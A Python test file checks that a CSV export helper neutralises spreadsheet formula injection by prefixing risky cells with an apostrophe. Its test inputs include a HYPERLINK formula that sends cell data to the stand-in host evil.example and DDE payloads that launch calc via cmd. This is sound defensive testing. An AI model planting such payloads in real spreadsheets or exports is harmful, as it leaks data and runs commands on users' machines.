"""No cell of an export is run as a formula by the spreadsheet that opens it."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest

from relais.core.exports import spreadsheet_row, spreadsheet_safe


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?"&A1, "Cliquez")',
        "+33 6 12 34 56 78",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_a_formula_looking_text_is_written_as_text(text):
    assert spreadsheet_safe(text) == "'" + text


@pytest.mark.parametrize(
    "value", ["Dora Lemaire", "dora@acme.example", "", "1+1", 42, -3, Decimal("-1.5"), None]
)
def test_other_values_are_written_unchanged(value):
    assert spreadsheet_safe(value) == value


def test_a_csv_written_through_the_helper_has_no_cell_a_spreadsheet_would_run():
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(spreadsheet_row(["=cmd|' /C calc'!A0", "Dora", dt.date(2026, 5, 4), -2]))

    cells = next(csv.reader(io.StringIO(buffer.getvalue())))

    assert cells == ["'=cmd|' /C calc'!A0", "Dora", "2026-05-04", "-2"]
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
